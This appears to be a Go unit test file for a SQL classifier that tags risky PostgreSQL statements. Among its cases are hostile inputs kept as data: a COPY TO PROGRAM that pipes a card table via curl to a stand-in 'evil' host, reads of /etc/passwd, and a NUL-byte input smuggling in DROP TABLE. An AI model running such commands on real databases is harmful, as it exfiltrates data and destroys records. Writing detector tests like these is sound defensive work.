package classify

import (
	"slices"
	"strings"
	"testing"
)

type want struct {
	kind    Kind
	tags    []string
	tables  []string
	columns []string // nil: not checked; []string{}: must be empty
	funcs   []string // nil: not checked
	copyIn  bool
	copyOut bool
}

func eq(a, b []string) bool {
	if len(a) == 0 && len(b) == 0 {
		return true
	}
	return slices.Equal(a, b)
}

func check(t *testing.T, sql string, got Statement, w want) {
	t.Helper()
	if got.Kind != w.kind {
		t.Errorf("%q: kind = %s, want %s (error %q)", sql, got.Kind, w.kind, got.Error)
	}
	if !eq(got.Tags, w.tags) {
		t.Errorf("%q: tags = %v, want %v", sql, got.Tags, w.tags)
	}
	if !eq(got.Tables, w.tables) {
		t.Errorf("%q: tables = %v, want %v", sql, got.Tables, w.tables)
	}
	if w.columns != nil && !eq(got.Columns, w.columns) {
		t.Errorf("%q: columns = %v, want %v", sql, got.Columns, w.columns)
	}
	if w.funcs != nil && !eq(got.Functions, w.funcs) {
		t.Errorf("%q: functions = %v, want %v", sql, got.Functions, w.funcs)
	}
	if got.CopyIn != w.copyIn || got.CopyOut != w.copyOut {
		t.Errorf("%q: copyIn/out = %v/%v, want %v/%v", sql, got.CopyIn, got.CopyOut, w.copyIn, w.copyOut)
	}
	if got.Fingerprint == "" {
		t.Errorf("%q: empty fingerprint", sql)
	}
}

// none is an explicitly empty list.
var none = []string{}

var singleCases = []struct {
	name string
	sql  string
	want want
}{
	// reads and column resolution
	{"select alias", "SELECT pan, c.name FROM cards c WHERE id = 1",
		want{kind: KindRead, tables: []string{"cards"}, columns: []string{"cards.id", "cards.name", "cards.pan"}}},
	{"schema qualified star", "SELECT * FROM public.cards",
		want{kind: KindRead, tables: []string{"public.cards"}, columns: []string{"public.cards.*"}}},
	{"schema qualified column", "SELECT public.cards.pan FROM public.cards",
		want{kind: KindRead, tables: []string{"public.cards"}, columns: []string{"public.cards.pan"}}},
	{"join aliases", "SELECT c.*, o.total FROM cards c JOIN orders o ON o.card_id = c.id WHERE o.total > 10",
		want{kind: KindRead, tables: []string{"cards", "orders"}, columns: []string{"cards.*", "cards.id", "orders.card_id", "orders.total"}}},
	{"ambiguous unqualified", "SELECT pan FROM cards, orders",
		want{kind: KindRead, tables: []string{"cards", "orders"}, columns: []string{"pan"}}},
	{"unqualified star two tables", "SELECT * FROM cards, orders",
		want{kind: KindRead, tables: []string{"cards", "orders"}, columns: []string{"cards.*", "orders.*"}}},
	{"star over subquery", "SELECT * FROM (SELECT pan FROM cards) s",
		want{kind: KindRead, tables: []string{"cards"}, columns: []string{"*", "cards.pan"}}},
	{"whole row reference", "SELECT row_to_json(c) FROM cards c",
		want{kind: KindRead, tables: []string{"cards"}, columns: []string{"cards.*", "cards.c"}}},
	{"quoted identifiers", `SELECT "Pan" FROM "Public"."Cards"`,
		want{kind: KindRead, tables: []string{"Public.Cards"}, columns: []string{"Public.Cards.Pan"}}},
	{"case folding", `SELECT PAN FROM Public.CARDS`,
		want{kind: KindRead, tables: []string{"public.cards"}, columns: []string{"public.cards.pan"}}},
	{"subquery scopes", "SELECT a FROM t1 WHERE b IN (SELECT c FROM t2)",
		want{kind: KindRead, tables: []string{"t1", "t2"}, columns: []string{"t1.a", "t1.b", "t2.c"}}},
	{"correlated subquery", "SELECT a FROM t1 x WHERE EXISTS (SELECT 1 FROM t2 y WHERE y.id = x.id)",
		want{kind: KindRead, tables: []string{"t1", "t2"}, columns: []string{"t1.a", "t1.id", "t2.id"}}},
	{"subselect alias unresolved", "SELECT s.pan FROM (SELECT pan FROM cards) s",
		want{kind: KindRead, tables: []string{"cards"}, columns: []string{"cards.pan", "pan"}}},
	{"for update is read", "SELECT id FROM cards FOR UPDATE",
		want{kind: KindRead, tables: []string{"cards"}, columns: []string{"cards.id"}}},
	{"volatile function is read", "SELECT nextval('s'), now()",
		want{kind: KindRead, funcs: []string{"nextval", "now"}}},
	{"union", "SELECT pan FROM cards UNION ALL SELECT pan FROM old_cards",
		want{kind: KindRead, tables: []string{"cards", "old_cards"}, columns: []string{"cards.pan", "old_cards.pan"}}},
	{"values", "VALUES (1), (2)", want{kind: KindRead}},
	{"cte is not a table", "WITH c AS (SELECT pan FROM cards) SELECT pan FROM c",
		want{kind: KindRead, tables: []string{"cards"}, columns: []string{"cards.pan", "pan"}}},
	{"cte shadowing does not hide a real table", "SELECT * FROM (WITH cards AS (SELECT 1) SELECT * FROM cards) x, cards",
		want{kind: KindRead, tables: []string{"cards"}}},
	{"declare cursor", "DECLARE c CURSOR FOR SELECT pan FROM cards",
		want{kind: KindRead, tables: []string{"cards"}, columns: []string{"cards.pan"}}},
	{"table function", "SELECT * FROM generate_series(1, 3) g",
		want{kind: KindRead, columns: []string{"*"}, funcs: []string{"generate_series"}}},

	// writes
	{"insert columns", "INSERT INTO cards (pan, name) VALUES ('4111111111111111', 'x')",
		want{kind: KindWrite, tables: []string{"cards"}, columns: []string{"cards.name", "cards.pan"}}},
	{"insert on conflict excluded", "INSERT INTO cards (pan, name) VALUES ('1', 'x') ON CONFLICT (pan) DO UPDATE SET name = excluded.name",
		want{kind: KindWrite, tables: []string{"cards"}, columns: []string{"cards.name", "cards.pan"}}},
	{"insert select", "INSERT INTO archive SELECT * FROM cards WHERE created < now()",
		want{kind: KindWrite, tables: []string{"archive", "cards"}, columns: []string{"archive.*", "cards.*", "cards.created"}}},
	{"update with where", "UPDATE cards SET name = 'x' WHERE id = 7",
		want{kind: KindWrite, tables: []string{"cards"}, columns: []string{"cards.id", "cards.name"}}},
	{"update without where", "UPDATE cards SET pan = '4111'",
		want{kind: KindWrite, tags: []string{TagNoWhere}, tables: []string{"cards"}, columns: []string{"cards.pan"}}},
	{"update from", "UPDATE cards c SET name = s.name FROM staging s WHERE s.id = c.id",
		want{kind: KindWrite, tables: []string{"cards", "staging"}, columns: []string{"cards.id", "cards.name", "staging.id", "staging.name"}}},
	{"delete without where", "DELETE FROM cards",
		want{kind: KindWrite, tags: []string{TagNoWhere}, tables: []string{"cards"}}},
	{"delete with where", "DELETE FROM public.cards WHERE id = 1",
		want{kind: KindWrite, tables: []string{"public.cards"}, columns: []string{"public.cards.id"}}},
	{"merge", "MERGE INTO cards c USING staging s ON c.id = s.id WHEN MATCHED THEN UPDATE SET pan = s.pan WHEN NOT MATCHED THEN INSERT (id, pan) VALUES (s.id, s.pan)",
		want{kind: KindWrite, tables: []string{"cards", "staging"}, columns: []string{"cards.id", "cards.pan", "staging.id", "staging.pan"}}},
	{"cte delete", "WITH d AS (DELETE FROM cards WHERE id = 1 RETURNING *) SELECT * FROM d",
		want{kind: KindWrite, tables: []string{"cards"}}},
	{"cte update without where", "WITH u AS (UPDATE cards SET name = 'x' RETURNING id) SELECT count(*) FROM u",
		want{kind: KindWrite, tags: []string{TagNoWhere}, tables: []string{"cards"}, funcs: []string{"count"}}},
	{"explain analyze delete", "EXPLAIN ANALYZE DELETE FROM cards",
		want{kind: KindWrite, tags: []string{TagNoWhere}, tables: []string{"cards"}}},
	{"explain analyze option delete", "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM cards WHERE id = 1",
		want{kind: KindWrite, tables: []string{"cards"}}},
	{"explain analyze on", "EXPLAIN (ANALYZE on) UPDATE cards SET name = 'x' WHERE id = 1",
		want{kind: KindWrite, tables: []string{"cards"}}},
	{"explain analyze 0 is plain explain", "EXPLAIN (ANALYZE 0) DELETE FROM cards",
		want{kind: KindUtility, tables: []string{"cards"}}},
	{"explain without analyze", "EXPLAIN DELETE FROM cards",
		want{kind: KindUtility, tables: []string{"cards"}}},
	{"explain keeps external access", "EXPLAIN SELECT pg_read_file('/etc/passwd')",
		want{kind: KindUtility, tags: []string{TagExternalAccess}}},
	{"truncate", "TRUNCATE cards, orders",
		want{kind: KindWrite, tags: []string{TagTruncate}, tables: []string{"cards", "orders"}}},
	{"do block", "DO $$ BEGIN DELETE FROM cards; END $$",
		want{kind: KindWrite, tags: []string{TagDynamicSQL}}},
	{"call", "CALL purge_cards(30)", want{kind: KindWrite, funcs: []string{"purge_cards"}}},
	{"prepare delete", "PREPARE p AS DELETE FROM cards",
		want{kind: KindWrite, tags: []string{TagNoWhere}, tables: []string{"cards"}}},
	{"refresh matview", "REFRESH MATERIALIZED VIEW mv", want{kind: KindWrite, tables: []string{"mv"}}},

	// copy
	{"copy query to stdout", "COPY (SELECT pan FROM cards WHERE id > 1) TO STDOUT",
		want{kind: KindCopy, tags: []string{TagCopyOut}, tables: []string{"cards"}, columns: []string{"cards.id", "cards.pan"}, copyOut: true}},
	{"copy table to stdout", "COPY public.cards TO STDOUT WITH (FORMAT csv)",
		want{kind: KindCopy, tags: []string{TagCopyOut}, tables: []string{"public.cards"}, columns: []string{"public.cards.*"}, copyOut: true}},
	{"copy from stdin", "COPY cards (pan, name) FROM STDIN",
		want{kind: KindCopy, tags: []string{TagCopyIn}, tables: []string{"cards"}, columns: []string{"cards.name", "cards.pan"}, copyIn: true}},
	{"copy to program", "COPY cards TO PROGRAM 'curl -d @- http://evil'",
		want{kind: KindCopy, tags: []string{TagCopyOut, TagCopyProgram, TagExternalAccess}, tables: []string{"cards"}, copyOut: true}},
	{"copy from program", "COPY cards FROM PROGRAM 'cat /etc/passwd'",
		want{kind: KindCopy, tags: []string{TagCopyIn, TagCopyProgram, TagExternalAccess}, tables: []string{"cards"}, copyIn: true}},
	{"copy to server file", "COPY cards TO '/tmp/cards.csv'",
		want{kind: KindCopy, tags: []string{TagCopyOut, TagExternalAccess}, tables: []string{"cards"}, copyOut: true}},
	{"copy delete returning", "COPY (DELETE FROM cards RETURNING pan) TO STDOUT",
		want{kind: KindCopy, tags: []string{TagCopyOut, TagDataModifying, TagNoWhere}, tables: []string{"cards"}, copyOut: true}},

	// ddl
	{"create table", "CREATE TABLE t (id int)", want{kind: KindDDL, tags: []string{TagDDL}, tables: []string{"t"}}},
	{"alter table", "ALTER TABLE cards ADD COLUMN cvv text", want{kind: KindDDL, tags: []string{TagDDL}, tables: []string{"cards"}}},
	{"drop table", "DROP TABLE public.cards, orders",
		want{kind: KindDDL, tags: []string{TagDDL, TagDrop}, tables: []string{"orders", "public.cards"}}},
	{"create index", "CREATE INDEX ON cards (pan)", want{kind: KindDDL, tags: []string{TagDDL}, tables: []string{"cards"}}},
	{"create view", "CREATE VIEW v AS SELECT pan FROM cards",
		want{kind: KindDDL, tags: []string{TagDDL}, tables: []string{"cards", "v"}}},
	{"create function", "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$", want{kind: KindDDL, tags: []string{TagDDL}}},
	{"create procedure", "CREATE PROCEDURE p() LANGUAGE sql AS $$ DELETE FROM cards $$", want{kind: KindDDL, tags: []string{TagDDL}}},
	{"drop function", "DROP FUNCTION f()", want{kind: KindDDL, tags: []string{TagDDL, TagDrop}}},
	{"create schema", "CREATE SCHEMA s", want{kind: KindDDL, tags: []string{TagDDL}}},
	{"select into", "SELECT * INTO newt FROM cards",
		want{kind: KindDDL, tags: []string{TagDDL, TagSelectInto}, tables: []string{"cards", "newt"}}},
	{"create table as", "CREATE TABLE copy AS SELECT * FROM cards",
		want{kind: KindDDL, tags: []string{TagDDL}, tables: []string{"cards", "copy"}}},
	{"create server", "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'x')",
		want{kind: KindDDL, tags: []string{TagDDL, TagExternalAccess}}},

	// roles
	{"grant", "GRANT SELECT ON cards TO bob", want{kind: KindRole, tags: []string{TagRoleChange}, tables: []string{"cards"}}},
	{"revoke", "REVOKE ALL ON cards FROM bob", want{kind: KindRole, tags: []string{TagRoleChange}, tables: []string{"cards"}}},
	{"grant role", "GRANT admin TO bob", want{kind: KindRole, tags: []string{TagRoleChange}}},
	{"create role", "CREATE ROLE x LOGIN PASSWORD 'y'", want{kind: KindRole, tags: []string{TagRoleChange}}},
	{"create user", "CREATE USER x", want{kind: KindRole, tags: []string{TagRoleChange}}},
	{"alter role", "ALTER ROLE x SUPERUSER", want{kind: KindRole, tags: []string{TagRoleChange}}},
	{"alter role set", "ALTER ROLE x SET log_statement = 'none'", want{kind: KindRole, tags: []string{TagAdminSetting, TagRoleChange}}},
	{"drop role", "DROP ROLE x", want{kind: KindRole, tags: []string{TagDrop, TagRoleChange}}},
	{"default privileges", "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob", want{kind: KindRole, tags: []string{TagRoleChange}}},

	// utility and settings
	{"set role", "SET ROLE postgres", want{kind: KindUtility, tags: []string{TagSetRole}}},
	{"set local role", "SET LOCAL ROLE postgres", want{kind: KindUtility, tags: []string{TagSetRole}}},
	{"reset role", "RESET ROLE", want{kind: KindUtility, tags: []string{TagSetRole}}},
	{"session authorization", "SET SESSION AUTHORIZATION bob", want{kind: KindUtility, tags: []string{TagSetRole}}},
	{"set_config role", "SELECT set_config('role', 'postgres', false)",
		want{kind: KindRead, tags: []string{TagSetRole}, funcs: []string{"set_config"}}},
	{"set_config admin", "SELECT pg_catalog.set_config('log_statement', 'none', false)",
		want{kind: KindRead, tags: []string{TagAdminSetting}, funcs: []string{"pg_catalog.set_config"}}},
	{"set_config harmless", "SELECT set_config('application_name', 'x', false)",
		want{kind: KindRead, funcs: []string{"set_config"}}},
	{"alter system", "ALTER SYSTEM SET log_statement = 'none'", want{kind: KindUtility, tags: []string{TagAdminSetting}}},
	{"set superuser setting", "SET log_statement = 'none'", want{kind: KindUtility, tags: []string{TagAdminSetting}}},
	{"set standard_conforming_strings", "SET standard_conforming_strings = off", want{kind: KindUtility, tags: []string{TagAdminSetting, TagLexing}}},
	{"set search_path", "SET search_path = evil, public", want{kind: KindUtility, tags: []string{TagSearchPath}}},
	{"set harmless", "SET statement_timeout = '5s'", want{kind: KindUtility}},
	{"show", "SHOW search_path", want{kind: KindUtility}},
	{"vacuum", "VACUUM cards", want{kind: KindUtility, tables: []string{"cards"}}},
	{"listen", "LISTEN ch", want{kind: KindUtility}},
	{"notify", "NOTIFY ch, 'x'", want{kind: KindUtility}},
	{"discard", "DISCARD ALL", want{kind: KindUtility}},
	{"load", "LOAD 'evil'", want{kind: KindUtility, tags: []string{TagAdminSetting, TagExternalAccess}}},
	{"checkpoint", "CHECKPOINT", want{kind: KindUtility, tags: []string{TagAdminFunction}}},

	// external access and admin functions
	{"pg_read_file", "SELECT pg_read_file('/etc/passwd')", want{kind: KindRead, tags: []string{TagExternalAccess}, funcs: []string{"pg_read_file"}}},
	{"pg_read_binary_file qualified", "SELECT pg_catalog.pg_read_binary_file('/etc/passwd')",
		want{kind: KindRead, tags: []string{TagExternalAccess}, funcs: []string{"pg_catalog.pg_read_binary_file"}}},
	{"pg_ls_dir in from", "SELECT * FROM pg_ls_dir('.')", want{kind: KindRead, tags: []string{TagExternalAccess}}},
	{"lo_export", "SELECT lo_export(123, '/tmp/x')", want{kind: KindRead, tags: []string{TagExternalAccess}}},
	{"dblink", "SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)", want{kind: KindRead, tags: []string{TagDynamicSQL, TagExternalAccess}}},
	{"pg_stat_file nested", "SELECT id FROM cards WHERE name = (SELECT (pg_stat_file('x')).size::text)",
		want{kind: KindRead, tags: []string{TagExternalAccess}, tables: []string{"cards"}}},
	{"file-reading system view", "SELECT * FROM pg_catalog.pg_hba_file_rules",
		want{kind: KindRead, tags: []string{TagExternalAccess}, tables: []string{"pg_catalog.pg_hba_file_rules"}}},
	{"terminate backend", "SELECT pg_terminate_backend(123)", want{kind: KindRead, tags: []string{TagAdminFunction}}},
	{"query_to_xml", "SELECT query_to_xml('DELETE FROM cards RETURNING *', true, false, '')", want{kind: KindRead, tags: []string{TagDynamicSQL}}},

	// transactions
	{"begin", "BEGIN", want{kind: KindTransaction}},
	{"commit", "COMMIT", want{kind: KindTransaction}},
	{"rollback", "ROLLBACK", want{kind: KindTransaction}},
	{"savepoint", "SAVEPOINT a", want{kind: KindTransaction}},
	{"set transaction", "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", want{kind: KindTransaction}},
	{"start transaction", "START TRANSACTION READ ONLY", want{kind: KindTransaction}},

	// unparseable
	{"syntax error", "selec 1", want{kind: KindUnparseable, tags: []string{TagUnparseable}}},
	{"unterminated string", "SELECT 'abc", want{kind: KindUnparseable, tags: []string{TagUnparseable}}},
	{"nul byte", "SELECT 1\x00; DROP TABLE cards", want{kind: KindUnparseable, tags: []string{TagUnparseable}}},
}

func TestClassifySingle(t *testing.T) {
	for _, tc := range singleCases {
		t.Run(tc.name, func(t *testing.T) {
			got := Classify(tc.sql)
			if len(got) != 1 {
				t.Fatalf("%q: %d statements, want 1: %+v", tc.sql, len(got), got)
			}
			check(t, tc.sql, got[0], tc.want)
			if got[0].Kind == KindUnparseable && got[0].Error == "" {
				t.Errorf("%q: unparseable without error message", tc.sql)
			}
		})
	}
}

func TestClassifyMulti(t *testing.T) {
	sql := "  -- leading comment\n SELECT 1 ; /* c */ DELETE FROM cards WHERE id = 2;\n UPDATE t SET a = 1 ;"
	got := Classify(sql)
	if len(got) != 3 {
		t.Fatalf("%d statements, want 3: %+v", len(got), got)
	}
	wantText := []string{"-- leading comment\n SELECT 1", "/* c */ DELETE FROM cards WHERE id = 2", "UPDATE t SET a = 1"}
	wantKind := []Kind{KindRead, KindWrite, KindWrite}
	for i, s := range got {
		if s.Text != wantText[i] {
			t.Errorf("statement %d text = %q, want %q", i, s.Text, wantText[i])
		}
		if s.Kind != wantKind[i] {
			t.Errorf("statement %d kind = %s, want %s", i, s.Kind, wantKind[i])
		}
		if !s.HasTag(TagMultiStatement) {
			t.Errorf("statement %d lacks multi_statement: %v", i, s.Tags)
		}
	}
	if !got[2].HasTag(TagNoWhere) || got[1].HasTag(TagNoWhere) {
		t.Errorf("no_where on the wrong statement: %v / %v", got[1].Tags, got[2].Tags)
	}
	if got[0].Fingerprint == got[1].Fingerprint {
		t.Errorf("different statements share fingerprint %s", got[0].Fingerprint)
	}
	// A single statement is not multi, even with a trailing semicolon.
	if one := Classify("SELECT 1;"); len(one) != 1 || one[0].HasTag(TagMultiStatement) || one[0].Text != "SELECT 1" {
		t.Errorf("single statement with semicolon: %+v", one)
	}
}

func TestClassifyEmpty(t *testing.T) {
	for _, sql := range []string{"", "   ", ";", "-- only a comment", "/* x */ ;"} {
		if got := Classify(sql); len(got) != 0 {
			t.Errorf("%q: %d statements, want 0: %+v", sql, len(got), got)
		}
	}
}

func TestFingerprintIgnoresLiterals(t *testing.T) {
	a := Classify("SELECT pan FROM cards WHERE id = 1")[0]
	b := Classify("SELECT pan FROM cards WHERE id = 2")[0]
	c := Classify("SELECT name FROM cards WHERE id = 2")[0]
	if a.Fingerprint != b.Fingerprint {
		t.Errorf("literal changed the fingerprint: %s vs %s", a.Fingerprint, b.Fingerprint)
	}
	if a.Fingerprint == c.Fingerprint {
		t.Errorf("different column, same fingerprint %s", a.Fingerprint)
	}
}

func TestSlicesAreClipped(t *testing.T) {
	s := Classify("SELECT a, b FROM t1 JOIN t2 USING (id) WHERE t1.x = 1")[0]
	for name, l := range map[string][]string{"tables": s.Tables, "columns": s.Columns} {
		if cap(l) != len(l) {
			t.Errorf("%s: cap %d != len %d (append by a caller would write into a shared array)", name, cap(l), len(l))
		}
	}
}

func TestUnparseableMessage(t *testing.T) {
	s := Classify("SELECT FROM WHERE")[0]
	if s.Kind != KindUnparseable || !strings.Contains(s.Error, "syntax error") {
		t.Errorf("got %+v", s)
	}
}

// A SQL-standard function body holds semicolons that do not end the statement.
func TestClassifyAtomicBody(t *testing.T) {
	got := Classify("CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; SELECT 2; END; SELECT 3")
	if len(got) != 2 || got[0].Kind != KindDDL || got[1].Kind != KindRead || got[1].Text != "SELECT 3" {
		t.Fatalf("got %+v", got)
	}
}

// Pathological nesting must end in a classification, not a crash (the parser gives up with an error).
func TestDeepNesting(t *testing.T) {
	q := strings.Repeat("SELECT * FROM (", 20000) + "SELECT 1" + strings.Repeat(") x", 20000)
	got := Classify(q)
	if len(got) != 1 || got[0].Kind != KindUnparseable || got[0].Error == "" {
		t.Fatalf("got %d statements, first %s %q", len(got), got[0].Kind, got[0].Error)
	}
	q = "SELECT " + strings.Repeat("(", 5000) + "1" + strings.Repeat(")", 5000)
	if got := Classify(q); len(got) != 1 || got[0].Kind != KindRead {
		t.Fatalf("parenthesised literal: %+v", got)
	}
}
